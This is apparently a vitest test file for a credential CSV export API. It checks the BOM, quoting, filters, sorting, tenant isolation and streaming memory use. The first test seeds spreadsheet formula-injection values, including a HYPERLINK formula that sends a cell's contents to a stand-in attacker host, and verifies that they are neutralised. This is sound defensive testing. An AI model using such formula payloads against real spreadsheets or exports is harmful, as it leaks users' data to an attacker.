/**
 * GET /api/credentials/export: the list's filters and sort as a CSV file that Excel opens (UTF-8 with a byte
 * order mark), formulas neutralised, organization-scoped for members and API keys, streamed in batches.
 */
import v8 from 'node:v8';
import vm from 'node:vm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildVerifiedOrganization, startTestApp, type TestApp } from './harness.ts';
import { basicAuth } from './security-fixtures.ts';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp({ listen: true });
});
afterAll(async () => {
  await t?.close();
});

const sqlOf = (text: string, values?: unknown[]) => t.runtime.ctx.database.executor.executeSql(text, values);

const COLUMNS = [
  'id',
  'name',
  'type',
  'recipient_first_name',
  'recipient_last_name',
  'recipient_email',
  'status',
  'created_at',
  'issued_at',
  'claimed_at',
  'expires_at',
  'revoked_at',
];

const verifiedOrganization = (name: string) =>
  buildVerifiedOrganization(t, name, { name: 'Membership', attributes: [{ name: 'level', type: 'TEXT' }] });

async function createCredential(
  headers: Record<string, string>,
  schemaId: string,
  recipient: { email: string; first_name: string; last_name: string },
  name = 'Gold membership',
) {
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/credentials/with-recipient',
    headers,
    payload: { credential: { name, schema_id: schemaId, claims: { level: 'gold' } }, recipient },
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json() as { id: string };
}

/** The export as a spreadsheet reads it: the BOM, then a header and one record per credential. */
function readCsv(body: string) {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parse(body.slice(1), { relax_column_count: false }) as string[][];
  expect(header).toEqual(COLUMNS);
  return rows.map((row) => Object.fromEntries(COLUMNS.map((column, i) => [column, row[i]!])));
}

async function listIds(headers: Record<string, string>, query: string) {
  const response = await t.app.inject({ url: `/api/credentials?limit=100&${query}`, headers });
  expect(response.statusCode, response.body).toBe(200);
  return (response.json() as { results: { id: string }[] }).results.map((r) => r.id);
}

describe('credential CSV export', () => {
  it('writes every credential with a BOM, RFC 4180 quoting and hostile names neutralised', async () => {
    const org = await verifiedOrganization('Export Club');
    const schemaId = org.schemaRecord.schema.id;
    const hostile = await createCredential(
      org.headers,
      schemaId,
      { email: 'mallory@example.com', first_name: '=HYPERLINK("https://evil.example/?x="&A1,"Open")', last_name: '+1' },
      '@SUM(1+1)',
    );
    const quoted = await createCredential(org.headers, schemaId, {
      email: 'ada@example.com',
      first_name: 'Ada, "Countess"',
      last_name: '-2+3',
    });
    const japanese = await createCredential(org.headers, schemaId, {
      email: 'yamada@example.com',
      first_name: '太郎',
      last_name: '山田',
    });
    const korean = await createCredential(org.headers, schemaId, {
      email: 'kim@example.com',
      first_name: '민준',
      last_name: '김',
    });

    const response = await t.app.inject({ url: '/api/credentials/export?timezone=Asia/Tokyo', headers: org.headers });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Tokyo' }).format(new Date());
    expect(response.headers['content-disposition']).toBe(`attachment; filename="credentials-${today}.csv"`);
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    // The raw text: the formula is quoted, prefixed and its quotes doubled; CRLF records.
    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")",'+1,`);
    expect(response.body).toContain(`,'@SUM(1+1),`);
    expect(response.body).toContain(`"Ada, ""Countess""",'-2+3,`);
    expect(response.body.split('\r\n')).toHaveLength(6);

    const rows = readCsv(response.body);
    // Newest first, as the list.
    expect(rows.map((r) => r.id)).toEqual([korean.id, japanese.id, quoted.id, hostile.id]);
    expect(rows[3]).toMatchObject({
      name: "'@SUM(1+1)",
      type: 'Membership',
      recipient_first_name: `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`,
      recipient_last_name: "'+1",
      recipient_email: 'mallory@example.com',
      status: 'CREATED',
      issued_at: '',
      claimed_at: '',
      expires_at: '',
      revoked_at: '',
    });
    expect(rows[2]).toMatchObject({ recipient_first_name: 'Ada, "Countess"', recipient_last_name: "'-2+3" });
    expect(rows[1]).toMatchObject({ recipient_first_name: '太郎', recipient_last_name: '山田' });
    expect(rows[0]).toMatchObject({ recipient_first_name: '민준', recipient_last_name: '김' });
    // Times in the user's time zone, to the millisecond.
    const created = (await sqlOf('select created_at from credentials where id = $1', [hostile.id])).rows[0]!
      .created_at as Date;
    expect(rows[3]!.created_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+09:00$/);
    expect(new Date(rows[3]!.created_at!).getTime()).toBe(new Date(created).getTime());
  });

  it('applies the filters, the range of days and the sort of the list', async () => {
    const org = await verifiedOrganization('Filter Club');
    const schemaId = org.schemaRecord.schema.id;
    const ids: string[] = [];
    for (let i = 0; i < 9; i++) {
      ids.push(
        (
          await createCredential(org.headers, schemaId, {
            email: `member${i}@filter.example`,
            first_name: `Member${i}`,
            last_name: i % 2 ? 'Odd' : 'Even',
          })
        ).id,
      );
    }
    // Offered (ISSUED), claimed, revoked; two created three days ago.
    for (const id of ids.slice(0, 6)) await t.app.inject({ url: `/api/credentials/${id}/connect` });
    await sqlOf(`update credentials set status = 'CLAIMED', claimed_at = now() where id = any($1::uuid[])`, [
      ids.slice(0, 2),
    ]);
    await t.app.inject({
      method: 'PATCH',
      url: '/api/credentials/revoke',
      headers: org.headers,
      payload: { credentials: [ids[2]] },
    });
    await sqlOf(`update credentials set created_at = now() - interval '3 days' where id = any($1::uuid[])`, [
      [ids[7], ids[8]],
    ]);
    const threeDaysAgo = new Date(Date.now() - 3 * 86_400_000).toISOString().slice(0, 10);
    const queries = [
      'sort=created_at',
      'sort=status',
      'sort=-status',
      'filter.status=ISSUED&sort=created_at',
      'filter.status=claimed',
      'filter.search=odd&sort=status',
      `filter.created_to=${threeDaysAgo}`,
      `filter.created_from=${threeDaysAgo}&filter.created_to=${threeDaysAgo}&sort=created_at`,
      'filter.search=nobody',
    ];
    for (const query of queries) {
      const response = await t.app.inject({ url: `/api/credentials/export?${query}`, headers: org.headers });
      expect(response.statusCode, response.body).toBe(200);
      const rows = readCsv(response.body);
      expect({ query, ids: rows.map((r) => r.id) }).toEqual({ query, ids: await listIds(org.headers, query) });
    }
    const revoked = readCsv(
      (await t.app.inject({ url: '/api/credentials/export?filter.status=REVOKED', headers: org.headers })).body,
    );
    expect(revoked).toEqual([
      expect.objectContaining({ id: ids[2], status: 'REVOKED', revoked_at: expect.any(String) }),
    ]);
    expect(revoked[0]!.revoked_at).toMatch(/Z$/);
    const byStatus = readCsv(
      (await t.app.inject({ url: '/api/credentials/export?sort=status', headers: org.headers })).body,
    );
    expect(byStatus.map((r) => r.status)).toEqual([
      'CREATED',
      'CREATED',
      'CREATED',
      'ISSUED',
      'ISSUED',
      'ISSUED',
      'CLAIMED',
      'CLAIMED',
      'REVOKED',
    ]);
  });

  it("never shows another organization's credentials, for members and API keys alike", async () => {
    const alpha = await verifiedOrganization('Alpha Export');
    const bravo = await verifiedOrganization('Bravo Export');
    const alphaCredential = await createCredential(alpha.headers, alpha.schemaRecord.schema.id, {
      email: 'secret@alpha.example',
      first_name: 'Alpha',
      last_name: 'Secret',
    });
    const bravoCredential = await createCredential(bravo.headers, bravo.schemaRecord.schema.id, {
      email: 'own@bravo.example',
      first_name: 'Bravo',
      last_name: 'Own',
    });
    const key = (
      await t.app.inject({
        method: 'POST',
        url: '/api/integrations/keys',
        headers: bravo.headers,
        payload: { name: 'Export robot' },
      })
    ).json() as { key: string; secret: string };
    const apiKey = { authorization: basicAuth(key.key, key.secret) };

    for (const headers of [bravo.headers, apiKey]) {
      const response = await t.app.inject({ url: '/api/credentials/export', headers });
      expect(response.statusCode, response.body).toBe(200);
      expect(readCsv(response.body).map((r) => r.id)).toEqual([bravoCredential.id]);
      expect(response.body).not.toContain(alphaCredential.id);
      expect(response.body).not.toContain('secret@alpha.example');
    }
    // Naming Alpha: Bravo's member is not a member, Bravo's key acts for Bravo only.
    for (const headers of [
      { ...bravo.member.auth, currentidentity: alpha.organization.id },
      { ...apiKey, currentidentity: alpha.organization.id },
    ]) {
      const response = await t.app.inject({ url: '/api/credentials/export', headers });
      expect([403, 404]).toContain(response.statusCode);
      expect(response.headers['content-type']).toContain('application/problem+json');
      expect(response.body).not.toContain(alphaCredential.id);
    }
    // Without a session or an organization.
    expect((await t.app.inject({ url: '/api/credentials/export' })).statusCode).toBe(401);
    expect((await t.app.inject({ url: '/api/credentials/export', headers: bravo.member.auth })).statusCode).toBe(400);
  });

  it('streams tens of thousands of rows in batches: memory stays flat while the file is read', async () => {
    const org = await verifiedOrganization('Bulk Export');
    const rows = 40_000;
    // Long names: the whole file is ~25 MB, so holding it (or its rows) would show in the heap.
    await sqlOf(
      `with fixture_list as (
       -- A full list of its own (number 1000) for rows written directly: the API's allocation never picks it.
       insert into status_lists (organization_id, number, size, next_index) values ($1::uuid, 1000, 16777216, 16777216)
       on conflict (organization_id, number) do update set size = excluded.size returning id
     )
     insert into credentials (organization_id, schema_id, schema_snapshot, name, recipient_email,
         recipient_first_name, recipient_last_name, claims, status, status_list_id, status_index, created_at)
       select $1::uuid, $2::uuid, '{"name":"Membership"}', 'Bulk credential ' || g || ' ' || repeat('n', 200),
         'bulk' || g || '@example.com', 'First' || g || repeat('f', 80), 'Last' || g || repeat('l', 80), '{}',
         'CREATED', (select id from fixture_list), g, now() - g * interval '1 second'
       from generate_series(1, $3::int) g`,
      [org.organization.id, org.schemaRecord.schema.id, rows],
    );
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    const used = () => {
      gc();
      const memory = process.memoryUsage();
      return { heap: memory.heapUsed, all: memory.heapUsed + memory.arrayBuffers };
    };
    const baseline = used();
    const response = await fetch(`${t.baseUrl}/api/credentials/export`, {
      headers: { ...org.headers, currentidentity: org.organization.id },
    });
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let bytes = 0;
    let records = 0;
    let reads = 0;
    let peak = 0;
    let peakHeap = 0;
    let lastId = '';
    let tail = '';
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.byteLength;
      // Count records without keeping the text: only an unfinished last line is carried over.
      const text = tail + decoder.decode(value, { stream: true });
      const lines = text.split('\r\n');
      tail = lines.pop() ?? '';
      records += lines.length;
      if (lines.length > 0) lastId = lines[lines.length - 1]!.slice(0, 36);
      reads += 1;
      if (reads % 40 === 0) {
        const now = used();
        peak = Math.max(peak, now.all - baseline.all);
        peakHeap = Math.max(peakHeap, now.heap - baseline.heap);
        // A slow reader: the server must wait for it instead of reading ahead into memory.
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    }
    expect(tail).toBe('');
    expect(records).toBe(rows + 1);
    expect(bytes).toBeGreaterThan(20_000_000);
    // The oldest credential comes last.
    const oldest = (
      await sqlOf('select id from credentials where organization_id = $1 order by created_at asc limit 1', [
        org.organization.id,
      ])
    ).rows[0]!.id;
    expect(lastId).toBe(oldest);
    expect(reads).toBeGreaterThan(40);
    // Flat: a few batches in flight at most, far below the file's size (25 MB, twice that as strings).
    // Rows and CSV text live in the JS heap. Array buffers add the socket's and, on PGlite, which runs in this
    // process, the database's own (its WebAssembly memory and result buffers grow by several MB on their own,
    // so the sum is only meaningful with a database outside this process).
    expect(peakHeap).toBeLessThan(8_000_000);
    if (process.env.TEST_DATABASE_URL) expect(peak).toBeLessThan(16_000_000);
  }, 180_000);
});
